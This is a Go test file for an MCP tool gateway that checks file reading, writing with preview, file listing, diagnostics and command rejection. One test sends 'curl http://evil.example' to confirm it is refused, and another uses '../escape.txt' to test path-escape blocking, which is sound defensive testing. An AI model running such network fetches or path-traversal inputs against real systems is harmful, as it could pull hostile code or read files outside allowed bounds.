package mcpserver

import (
	"context"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/AltairaLabs/toolgate/internal/gateway"
	"github.com/AltairaLabs/toolgate/internal/gateway/config"
)

func newTestMCPServer(t *testing.T) *Server {
	t.Helper()
	cfg := config.Default()
	cfg.Workspace.Root = t.TempDir()
	if err := cfg.Normalize(); err != nil {
		t.Fatalf("Normalize failed: %v", err)
	}
	gw, err := gateway.New(cfg, slog.Default())
	if err != nil {
		t.Fatalf("gateway.New failed: %v", err)
	}
	if err := os.WriteFile(filepath.Join(cfg.Workspace.Root, "greeting.txt"), []byte("hello mcp"), 0o640); err != nil {
		t.Fatalf("seed file: %v", err)
	}
	return New(gw, slog.Default())
}

func toolRequest(name string, args map[string]any) mcp.CallToolRequest {
	req := mcp.CallToolRequest{}
	req.Params.Name = name
	req.Params.Arguments = args
	return req
}

func resultText(t *testing.T, res *mcp.CallToolResult) string {
	t.Helper()
	if len(res.Content) == 0 {
		t.Fatal("Expected content in tool result")
	}
	text, ok := mcp.AsTextContent(res.Content[0])
	if !ok {
		t.Fatalf("Expected text content, got %T", res.Content[0])
	}
	return text.Text
}

func TestHandleReadFile_Success(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleReadFile(context.Background(), toolRequest("read_file", map[string]any{
		"path": "greeting.txt",
	}))
	if err != nil {
		t.Fatalf("Expected no protocol error, got %v", err)
	}
	if res.IsError {
		t.Fatalf("Expected success, got tool error: %s", resultText(t, res))
	}
	if got := resultText(t, res); got != "hello mcp" {
		t.Errorf("Expected file content, got %q", got)
	}
}

func TestHandleReadFile_DomainErrorIsToolError(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleReadFile(context.Background(), toolRequest("read_file", map[string]any{
		"path": "../escape.txt",
	}))
	if err != nil {
		t.Fatalf("Expected domain failure as tool error, got protocol error %v", err)
	}
	if !res.IsError {
		t.Fatal("Expected tool error result")
	}
	if !strings.Contains(resultText(t, res), "PathEscape") {
		t.Errorf("Expected classified error text, got %q", resultText(t, res))
	}
}

func TestHandleReadFile_MissingArgument(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleReadFile(context.Background(), toolRequest("read_file", map[string]any{}))
	if err != nil {
		t.Fatalf("Expected no protocol error, got %v", err)
	}
	if !res.IsError {
		t.Error("Expected tool error for missing required argument")
	}
}

func TestHandleWriteFile_PreviewThenApply(t *testing.T) {
	s := newTestMCPServer(t)
	ctx := context.Background()

	res, err := s.handleWriteFile(ctx, toolRequest("write_file", map[string]any{
		"path":                 "out.txt",
		"content":              "payload",
		"require_confirmation": true,
	}))
	if err != nil || res.IsError {
		t.Fatalf("Expected preview success, got err=%v res=%v", err, res)
	}
	var preview map[string]any
	if jsonErr := json.Unmarshal([]byte(resultText(t, res)), &preview); jsonErr != nil {
		t.Fatalf("Expected JSON preview, got %v", jsonErr)
	}
	if preview["action"] != "WRITE_PREVIEW" {
		t.Errorf("Expected WRITE_PREVIEW action, got %v", preview["action"])
	}

	res, err = s.handleWriteFile(ctx, toolRequest("write_file", map[string]any{
		"path":                 "out.txt",
		"content":              "payload",
		"require_confirmation": false,
	}))
	if err != nil || res.IsError {
		t.Fatalf("Expected apply success, got err=%v res=%v", err, res)
	}

	read, err := s.handleReadFile(ctx, toolRequest("read_file", map[string]any{"path": "out.txt"}))
	if err != nil || read.IsError {
		t.Fatalf("Expected read-back success, got err=%v", err)
	}
	if got := resultText(t, read); got != "payload" {
		t.Errorf("Expected written content, got %q", got)
	}
}

func TestHandleRunCommand_Rejected(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleRunCommand(context.Background(), toolRequest("run_command", map[string]any{
		"command": "curl http://evil.example",
	}))
	if err != nil {
		t.Fatalf("Expected no protocol error, got %v", err)
	}
	if !res.IsError {
		t.Fatal("Expected tool error for non-whitelisted command")
	}
	if !strings.Contains(resultText(t, res), "CommandRejected") {
		t.Errorf("Expected CommandRejected in error text, got %q", resultText(t, res))
	}
}

func TestHandleDiagnostics_ReturnsJSON(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleDiagnostics(context.Background(), toolRequest("get_diagnostics", nil))
	if err != nil || res.IsError {
		t.Fatalf("Expected success, got err=%v", err)
	}
	var report map[string]any
	if jsonErr := json.Unmarshal([]byte(resultText(t, res)), &report); jsonErr != nil {
		t.Fatalf("Expected JSON report, got %v", jsonErr)
	}
	for _, key := range []string{"workspace", "rate_limits", "allowed_commands", "context", "watcher"} {
		if _, ok := report[key]; !ok {
			t.Errorf("Expected %q in diagnostics report", key)
		}
	}
}

func TestHandleListFiles_ReturnsCount(t *testing.T) {
	s := newTestMCPServer(t)

	res, err := s.handleListFiles(context.Background(), toolRequest("list_files", map[string]any{
		"pattern": "**/*.txt",
	}))
	if err != nil || res.IsError {
		t.Fatalf("Expected success, got err=%v", err)
	}
	var listing map[string]any
	if jsonErr := json.Unmarshal([]byte(resultText(t, res)), &listing); jsonErr != nil {
		t.Fatalf("Expected JSON listing, got %v", jsonErr)
	}
	if listing["count"].(float64) != 1 {
		t.Errorf("Expected 1 file, got %v", listing["count"])
	}
}
